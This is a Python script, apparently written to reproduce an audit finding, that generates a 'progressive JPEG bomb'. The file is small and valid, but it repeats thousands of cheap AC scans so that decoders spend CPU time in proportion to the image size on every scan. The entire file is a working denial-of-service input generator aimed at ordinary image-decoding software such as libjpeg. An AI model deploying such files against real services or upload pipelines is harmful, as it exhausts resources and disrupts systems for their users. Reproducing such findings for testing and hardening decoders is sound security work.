#!/usr/bin/env python3
"""Writes a grey progressive JPEG that repeats one cheap scan (issue 22, finding 7).

Usage: progressive-jpeg-bomb.py WIDTH HEIGHT SCANS OUT

A DC scan, then SCANS - 1 copies of an AC scan (coefficients 1-63) whose data is only end-of-band
runs: a few bytes each, yet a decoder walks every 8x8 block of the image for each one. Every
coefficient is zero, so the picture is flat grey. Valid to libjpeg (no warning). Standard library only.
"""
import struct
import sys


def segment(marker, body):
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


class Bits:
    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value, count):
        for i in range(count - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)  # byte stuffing
                self.acc, self.n = 0, 0

    def finish(self):
        while self.n:
            self.put(1, 1)  # pad with ones
        return bytes(self.out)


def main():
    width, height, scans, out = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    jpeg = b"\xff\xd8"
    jpeg += segment(0xDB, b"\x00" + b"\x01" * 64)
    jpeg += segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    # DC table 0: one code of length 1 (category 0). AC table 0: EOB0..EOB14, 4-bit codes 0..14.
    jpeg += segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    jpeg += segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(k << 4 for k in range(15)))
    dc = Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    jpeg += segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + dc.finish()
    ac = Bits()
    left = blocks
    while left:
        run = min(left, 32767)
        k = run.bit_length() - 1
        ac.put(k, 4)
        ac.put(run - (1 << k), k)
        left -= run
    ac_scan = segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + ac.finish()
    jpeg += ac_scan * (scans - 1)
    jpeg += b"\xff\xd9"
    with open(out, "wb") as f:
        f.write(jpeg)


if __name__ == "__main__":
    main()
